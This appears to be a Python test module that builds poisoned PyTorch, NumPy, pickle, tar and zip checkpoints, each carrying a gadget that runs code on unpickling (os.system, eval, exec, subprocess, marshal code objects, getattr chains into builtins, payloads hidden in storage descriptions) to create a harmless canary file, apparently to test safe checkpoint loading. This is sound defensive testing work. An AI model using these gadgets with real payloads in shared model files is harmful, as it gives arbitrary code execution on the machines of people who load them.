"""Checkpoints that run code when they are unpickled without care.

Gadgets are ways from a pickle to code, containers the forms in which torch
has stored checkpoints. Each file makes the file ``canary``.
"""
import functools
import importlib
import io
import logging
import marshal
import operator
import os
import pathlib
import pickle
import runpy
import shutil
import subprocess
import tarfile
import timeit
import zipfile

import numpy as np
import torch
from mmengine.logging import HistoryBuffer


class Call:
    """A call, once it is unpickled; with ``state``, of what it returns."""

    def __init__(self, function, *args, state=None):
        self.reduced = (function, args) if state is None else \
            (function, args, state)

    def __reduce__(self):
        return self.reduced

    def __call__(self):
        """What it returns may be called in turn."""


def gadgets(canary):
    """Objects that make ``canary`` while they are unpickled, by name."""
    shell, code = f'touch {canary}', f'open({canary!r}, "w").close()'
    compiled = marshal.dumps(compile(code, 'x', 'exec'))
    script = f'{canary}.py'
    pathlib.Path(script).write_text(code)
    inner = io.BytesIO()
    torch.save(Call(os.system, shell), inner)
    evil, module = Call(eval, code), importlib.import_module
    of_history = Call(getattr, HistoryBuffer.mean, '__globals__')
    return {
        'os.system': Call(os.system, shell),
        'os.popen': Call(Call(getattr, Call(os.popen, shell), 'read')),
        'os.mkdir': Call(os.mkdir, canary),
        'os.open': Call(os.open, canary, os.O_CREAT),
        'os.symlink': Call(os.symlink, script, canary),
        'subprocess.call': Call(subprocess.call, ['touch', canary]),
        'subprocess.check_output': Call(
            subprocess.check_output, ['touch', canary]),
        'eval': evil,
        'exec': Call(exec, code),
        'open': Call(open, canary, 'w'),
        'pathlib': Call(pathlib.Path.touch, pathlib.PosixPath(canary)),
        'runpy': Call(runpy.run_path, script),
        'timeit': Call(timeit.timeit, code, 'pass', timeit.default_timer, 1),
        'shutil.copy': Call(shutil.copy, script, canary),
        'logging.FileHandler': Call(logging.FileHandler, canary),
        'pickle.loads': Call(pickle.loads, pickle.dumps(evil)),
        'torch.load': Call(functools.partial(torch.load, weights_only=False),
                           Call(io.BytesIO, inner.getvalue())),
        'numpy.load': Call(functools.partial(np.load, allow_pickle=True),
                           Call(io.BytesIO, _npy(evil))),
        'numpy.memmap': Call(np.memmap, canary, 'u1', 'w+', 0, (1, )),
        'functools.partial': Call(functools.partial(eval, code)),
        'functools.reduce': Call(functools.reduce, eval, [code, None]),
        'operator.methodcaller': Call(
            operator.methodcaller('system', shell), Call(module, 'os')),
        'operator.attrgetter': Call(
            Call(operator.attrgetter('system'), Call(module, 'os')), shell),
        'FunctionType': Call(Call(
            Call(getattr, Call(module, 'types'), 'FunctionType'),
            Call(marshal.loads, compiled), {})),
        'map': Call(list, Call(map, eval, [code])),
        'getattr of a module': Call(
            Call(getattr, Call(module, 'os'), 'system'), shell),
        'getattr of a history': Call(Call(operator.getitem, Call(
            operator.getitem, of_history, '__builtins__'), 'eval'), code),
        'state of a history': Call(HistoryBuffer, state=dict(
            _log_history=evil)),
        'state of a module': Call(torch.nn.Linear, 1, 1, state=dict(
            _parameters={}, _buffers=evil)),
        'state of a tensor': Call(torch.Tensor, state=(evil, )),
        'argument of a rebuild': Call(
            torch._utils._rebuild_parameter, evil, False, {}),
        'subclass of a tensor': Call(
            torch._tensor._rebuild_from_type_v2, eval, int, (code, ), {}),
        'array of objects': np.array([evil, None], dtype=object),
        'key of a dictionary': {Call(os.system, shell): 1},
        'set': {Call(os.system, shell)},
        'nested': [({'a': [(evil, )]}, )],
    }


def _npy(value):
    file = io.BytesIO()
    np.save(file, np.array([value, None], dtype=object), allow_pickle=True)
    return file.getvalue()


def as_zip(content, path):
    torch.save(content, path)


def as_legacy(content, path):
    torch.save(content, path, _use_new_zipfile_serialization=False)


def as_pickle(content, path, protocol=2):
    with open(path, 'wb') as file:
        pickle.dump(content, file, protocol)


def as_pickle_4(content, path):
    as_pickle(content, path, 4)


def as_tar(content, path):
    """Of torch 0.1: counts of storages and tensors, then the object."""
    with tarfile.open(path, 'w') as file:
        for name, values in (('sys_info', [dict(
                protocol_version=1000, little_endian=True, type_sizes={})]),
                ('storages', [0, []]), ('tensors', [0]),
                ('pickle', [content])):
            data = b''.join(pickle.dumps(value, 2) for value in values)
            member = tarfile.TarInfo(name)
            member.size = len(data)
            file.addfile(member, io.BytesIO(data))


def as_zipped_file(content, path):
    """A checkpoint in a zip of its own, which torch.hub unpacks."""
    as_legacy(content, f'{path}.inner')
    with zipfile.ZipFile(path, 'w') as file:
        file.write(f'{path}.inner', os.path.basename(path) + '.inner')


def as_storage_type(content, path):
    """The code hides in the description of a tensor's storage."""
    class Pickler(pickle.Pickler):

        def persistent_id(self, value):
            return ('storage', content, '0', 'cpu', 1) \
                if isinstance(value, torch.nn.Identity) else None

    as_zip({'a': 1}, path)
    data = io.BytesIO()
    Pickler(data, 2).dump({'state_dict': torch.nn.Identity()})
    with zipfile.ZipFile(path) as file:
        members = {name: file.read(name) for name in file.namelist()}
    with zipfile.ZipFile(path, 'w') as file:
        for name, old in members.items():
            file.writestr(name, data.getvalue()
                          if name.endswith('data.pkl') else old)


CONTAINERS = {function.__name__: function for function in (
    as_zip, as_legacy, as_pickle, as_pickle_4, as_tar, as_storage_type)}


def checkpoint(gadget, place='meta'):
    """A training checkpoint with the gadget somewhere in it."""
    content = dict(
        meta=dict(epoch=0, iter=2), state_dict={'a': torch.zeros(2)},
        optimizer=dict(state={}, param_groups=[]),
        message_hub=dict(log_scalars={}))
    if place == 'whole':
        return gadget
    content[place]['gadget'] = gadget
    return content


